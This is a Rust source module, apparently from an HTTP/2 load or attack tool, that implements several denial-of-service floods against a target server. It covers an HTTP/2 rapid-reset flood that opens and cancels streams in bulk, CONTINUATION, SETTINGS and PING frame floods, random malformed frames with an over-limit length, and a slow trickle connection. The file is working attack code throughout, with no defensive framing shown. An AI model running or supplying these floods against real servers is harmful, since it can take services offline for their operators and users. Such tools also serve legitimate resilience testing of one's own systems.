//! Floods of frames.

use super::super::frames::*;
use super::super::target::Target;
use super::http1;
use super::paths::PUT;
use crate::rng::Rng;

pub(super) fn rapid_reset(target: &Target, _: usize) {
    let headers = call(PUT);
    target.flood(&hello(65_535), |turn| {
        let mut out = Vec::new();
        for n in 0..64 {
            let stream = ((turn * 64 + n) * 2 + 1) as u32 & 0x7fff_ffff;
            out.extend(frame(HEADERS, END_HEADERS, stream, &headers));
            out.extend(frame(RESET, 0, stream, &8_u32.to_be_bytes()));
        }
        out
    });
}

pub(super) fn continuation(target: &Target, _: usize) {
    let mut first = hello(65_535);
    first.extend(frame(HEADERS, 0, 1, &call(PUT)));
    let more = frame(CONTINUATION, 0, 1, &field("x", &"y".repeat(100)).repeat(100));
    target.flood(&first, |_| more.clone());
}

pub(super) fn settings(target: &Target, _: usize) {
    let more = frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0xff, 0xff]).repeat(200);
    target.flood(&hello(65_535), |_| more.clone());
}

pub(super) fn ping(target: &Target, _: usize) {
    let more = frame(PING, 0, 0, &[7; 8]).repeat(200);
    target.flood(&hello(65_535), |_| more.clone());
}

/// Most connections end with the first such frame, and the next one begins.
pub(super) fn frames(target: &Target, thread: usize) {
    let mut rng = Rng::new(thread as u64);
    while target.goes_on() {
        let Some(mut socket) = target.connect() else { continue };
        let mut out = hello(65_535);
        for _ in 0..32 {
            let drawn = rng.next();
            let (kind, flags, stream) = (drawn as u8 % 12, (drawn >> 8) as u8, (drawn >> 16) as u32 % 8);
            let length = (drawn >> 48) as usize % 64;
            out.extend(frame(kind, flags, stream, &rng.bytes(length)));
        }
        // A length that is beyond what is allowed.
        out.extend([0xff, 0xff, 0xff, DATA, 0, 0, 0, 0, 1]);
        let _ = target.write(&mut socket, &out);
        target.drain(&mut socket, 64 << 10);
        target.count(1);
    }
}

pub(super) fn slow(target: &Target, _: usize) {
    http1::trickle(target, 400, PREFACE);
}
